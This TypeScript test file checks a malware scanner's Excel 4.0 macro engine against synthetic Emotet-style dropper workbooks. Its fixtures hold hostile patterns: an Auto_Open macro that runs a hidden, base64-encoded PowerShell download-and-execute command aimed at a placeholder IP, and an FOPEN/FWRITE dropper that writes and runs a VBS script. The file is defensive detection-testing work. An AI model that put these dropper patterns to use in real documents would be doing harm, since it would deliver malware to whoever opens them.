import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildCfb } from '../../../test/builders/cfb.js';
import {
  buildXls,
  emotetXlmSpec,
  EMOTET_URL,
  type BiffWorkbookSpec,
} from '../../../test/builders/biff.js';
import { buildSylk, emotetSylkSpec } from '../../../test/builders/sylk.js';
import { buildXlsb, buildXlsm } from '../../../test/builders/xlsm.js';
import { buildOoxml } from '../../../test/builders/zip.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { assertGolden } from '../../../test/support/golden.js';
import { isKnownTechnique, verdictOf, type EngineOutput } from '../../core/index.js';
import { MAX_XLM_LISTED, xlmEngine, XLM_FINDINGS } from './index.js';

const analyse = (bytes: Uint8Array, name: string) =>
  xlmEngine.analyze(makeContext(bytes, { name }));

function summarise(out: EngineOutput) {
  const findings = out.findings ?? [];
  return {
    verdict: verdictOf(findings),
    findings: findings.map((f) => `${f.step} ${f.severity} ${f.id} ${f.attack.join(',')}`),
    evidence: Object.fromEntries(
      findings.map((f) => [f.id, f.evidence.map((e) => `${e.location ?? ''} | ${e.text ?? ''}`)]),
    ),
    xlm: out.extracted?.xlm?.map((c) => `${c.sheet}!${c.cell} ${c.formula}`),
    iocs: out.extracted?.iocs,
    powershell: out.extracted?.powershell,
    children: out.children?.map(
      (c) => `${c.relation} ${c.typeHint ?? '-'} ${c.name}: ${new TextDecoder().decode(c.bytes)}`,
    ),
  };
}

const FIXTURES: [string, () => Uint8Array][] = [
  ['emotet-biff8.xls', () => buildXls(emotetXlmSpec(8))],
  ['emotet-biff5.xls', () => buildXls(emotetXlmSpec(5))],
  ['emotet.xlsm', () => buildXlsm(emotetXlmSpec())],
  ['emotet.xlsb', () => buildXlsb(emotetXlmSpec())],
  ['emotet.slk', () => buildSylk(emotetSylkSpec())],
];

for (const [name, build] of FIXTURES) {
  test(`xlm golden: ${name} → malicious, command, download URL and the decoded formula`, async () => {
    const out = await analyse(build(), name);
    assertGolden(summarise(out), new URL(`./testdata/${name}.out.json`, import.meta.url));
  });
}

test('xlm: the Emotet-style dropper is malicious in every container, with the URL in extracted.iocs', async () => {
  for (const [name, build] of FIXTURES.slice(0, 4)) {
    const out = await analyse(build(), name);
    const ids = out.findings?.map((f) => f.id) ?? [];
    assert.equal(verdictOf(out.findings ?? []), 'malicious', name);
    for (const id of [
      'xlm.hidden-macro-sheet',
      'xlm.autoexec-execution-chain',
      'xlm.autoexec-download',
      'xlm.sandbox-evasion',
      'xlm.obfuscation',
    ]) {
      assert.ok(ids.includes(id), `${name}: ${id}`);
    }
    assert.deepEqual(out.extracted?.iocs?.urls, [EMOTET_URL], name);
  }
});

test('xlm: a visible macro sheet doing arithmetic is listed and left clean', async () => {
  const spec: BiffWorkbookSpec = {
    sheets: [
      {
        name: 'Calc',
        type: 'macro',
        cells: [
          { ref: 'A1', formula: 'SUM(1,2)' },
          { ref: 'A2', formula: 'RETURN(A1)' },
        ],
      },
    ],
  };
  const out = await analyse(buildXls(spec), 'calc.xls');
  assert.deepEqual(
    out.findings?.map((f) => f.id),
    ['xlm.macro-sheet-present'],
  );
  assert.equal(verdictOf(out.findings ?? []), 'clean');
  assert.deepEqual(out.extracted?.xlm, [
    { sheet: 'Calc', cell: 'A1', formula: '=SUM(1,2)' },
    { sheet: 'Calc', cell: 'A2', formula: '=RETURN(A1)' },
  ]);
});

test('xlm: a SYLK file with ordinary formulas and no macro-sheet option is no macro', async () => {
  const bytes = buildSylk({ cells: [{ y: 1, x: 1, value: 3, formula: 'SUM(R2C1:R3C1)' }] });
  assert.deepEqual(await analyse(bytes, 'sum.slk'), { findings: [] });
});

test('xlm: any name starting with Auto_Open counts, built-in or not', async () => {
  const spec: BiffWorkbookSpec = {
    sheets: [{ name: 'M', type: 'macro', cells: [{ ref: 'A1', formula: 'EXEC("calc")' }] }],
    names: [{ name: 'aUtO_oPeN_x', formula: 'M!$A$1' }],
  };
  const out = await analyse(buildXls(spec), 'n.xls');
  const ids = out.findings?.map((f) => f.id) ?? [];
  assert.ok(ids.includes('xlm.autoexec-entrypoint'));
  assert.ok(ids.includes('xlm.autoexec-execution-chain'));
});

test('xlm: -EncodedCommand in EXEC is decoded into extracted.powershell and a child', async () => {
  const script = 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/a")';
  const b64 = Buffer.from(script, 'utf16le').toString('base64');
  const spec: BiffWorkbookSpec = {
    sheets: [
      {
        name: 'M',
        type: 'macro',
        cells: [
          {
            ref: 'A1',
            formula: `EXEC("powershell -w hidden -enc "&"${b64.slice(0, 200)}"&"${b64.slice(200)}")`,
          },
        ],
      },
    ],
    names: [{ name: 'Auto_Open', isBuiltin: true, formula: 'M!$A$1' }],
  };
  const out = await analyse(buildXls(spec), 'enc.xls');
  assert.deepEqual(
    out.extracted?.powershell?.map((p) => p.decoded),
    [script],
  );
  assert.deepEqual(
    out.children?.map((c) => [c.name, c.typeHint]),
    [['powershell-decoded-1.ps1', 'powershell']],
  );
  const chain = out.findings?.find((f) => f.id === 'xlm.autoexec-execution-chain');
  assert.ok(chain?.attack.includes('T1059.001'));
});

test('xlm: a script written with FOPEN/FWRITE comes back as a child to scan', async () => {
  const spec: BiffWorkbookSpec = {
    sheets: [
      {
        name: 'M',
        type: 'macro',
        cells: [
          { ref: 'A1', formula: 'FOPEN("C:\\Users\\Public\\a.vbs",3)' },
          { ref: 'A2', formula: 'FWRITE(A1,"CreateObject(""WScript.Shell"").Run ""calc""")' },
          { ref: 'A3', formula: 'EXEC("wscript C:\\Users\\Public\\a.vbs")' },
        ],
      },
    ],
    names: [{ name: 'Auto_Open', isBuiltin: true, formula: 'M!$A$1' }],
  };
  const out = await analyse(buildXls(spec), 'drop.xls');
  assert.ok(out.findings?.some((f) => f.id === 'xlm.file-write'));
  assert.deepEqual(
    out.children?.map((c) => [c.name, c.typeHint, new TextDecoder().decode(c.bytes)]),
    [['dropped-1-a.vbs', 'script', 'CreateObject("WScript.Shell").Run "calc"']],
  );
});

test('xlm: compound files without a Workbook stream and packages without macro sheets are not its business', async () => {
  const doc = buildCfb({ streams: [{ path: 'WordDocument', data: new Uint8Array(64) }] }).bytes;
  assert.deepEqual(await analyse(doc, 'a.doc'), {});
  const xlsx = buildOoxml({ files: { 'xl/workbook.xml': '<workbook/>' } });
  assert.deepEqual(await analyse(xlsx, 'a.xlsx'), {});
});

test('xlm: a Workbook stream that is not BIFF is a parse error, not an exception', async () => {
  const bytes = buildCfb({
    streams: [{ path: 'Workbook', data: new Uint8Array(600).fill(7) }],
  }).bytes;
  const out = await analyse(bytes, 'junk.xls');
  assert.deepEqual(
    out.findings?.map((f) => f.id),
    ['scan.parse-error'],
  );
});

test('xlm: a formula with tokens it cannot decode is listed partially and reported', async () => {
  const spec: BiffWorkbookSpec = {
    sheets: [
      {
        name: 'M',
        type: 'macro',
        cells: [{ ref: 'B2', rgce: Uint8Array.of(0x1e, 1, 0, 0x18, 1) }],
      },
    ],
  };
  const out = await analyse(buildXls(spec), 'odd.xls');
  assert.deepEqual(out.extracted?.xlm, [{ sheet: 'M', cell: 'B2', formula: '=1' }]);
  const error = out.findings?.find((f) => f.id === 'scan.parse-error');
  assert.match(
    error?.evidence[0]?.text ?? '',
    /E_XLM_FORMULA_UNDECODED: 1 formula\(s\) of macro sheet "M".*row 2, column 2/,
  );
});

test('xlm: extracted.xlm keeps MAX_XLM_LISTED formulas and says so past it', async () => {
  const cells = (n: number) =>
    Array.from({ length: n }, (_, i) => ({ ref: `A${i + 1}`, formula: '1' }));
  const at = await analyse(
    buildXls({ sheets: [{ name: 'M', type: 'macro', cells: cells(MAX_XLM_LISTED) }] }),
    'a.xls',
  );
  assert.equal(at.extracted?.xlm?.length, MAX_XLM_LISTED);
  assert.ok(!at.findings?.some((f) => f.id === 'scan.limit-exceeded'));
  const past = await analyse(
    buildXls({ sheets: [{ name: 'M', type: 'macro', cells: cells(MAX_XLM_LISTED + 1) }] }),
    'b.xls',
  );
  assert.equal(past.extracted?.xlm?.length, MAX_XLM_LISTED);
  assert.match(
    past.findings?.find((f) => f.id === 'scan.limit-exceeded')?.evidence[0]?.text ?? '',
    /E_LIMIT_XLM_LISTED/,
  );
});

test('xlm: an endless macro loop ends at the step budget as scan.limit-exceeded', async () => {
  const spec: BiffWorkbookSpec = {
    sheets: [{ name: 'M', type: 'macro', cells: [{ ref: 'A1', formula: 'GOTO(A1)' }] }],
    names: [{ name: 'Auto_Open', isBuiltin: true, formula: 'M!$A$1' }],
  };
  const out = await analyse(buildXls(spec), 'loop.xls');
  assert.match(
    out.findings?.find((f) => f.id === 'scan.limit-exceeded')?.evidence[0]?.text ?? '',
    /E_LIMIT_XLM_STEPS/,
  );
});

test('xlm: every finding kind has an engine-prefixed id and known ATT&CK techniques', () => {
  for (const f of XLM_FINDINGS) {
    assert.match(f.def.id, /^xlm\.[a-z0-9-]+$/);
    for (const t of f.def.attack) assert.ok(isKnownTechnique(t), `${f.def.id}: ${t}`);
  }
});

test('xlm: 100 truncated and byte-flipped droppers never throw', async () => {
  let seed = 7;
  const rand = (n: number) => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff), seed % n);
  for (const [name, build] of FIXTURES) {
    const clean = build();
    for (let i = 0; i < 20; i++) {
      const bytes = i % 3 === 0 ? clean.slice(0, rand(clean.length)) : clean.slice();
      if (i % 3 !== 0) for (let k = 0; k < 1 + rand(8); k++) bytes[rand(bytes.length)] = rand(256);
      await analyse(bytes, name);
    }
  }
});
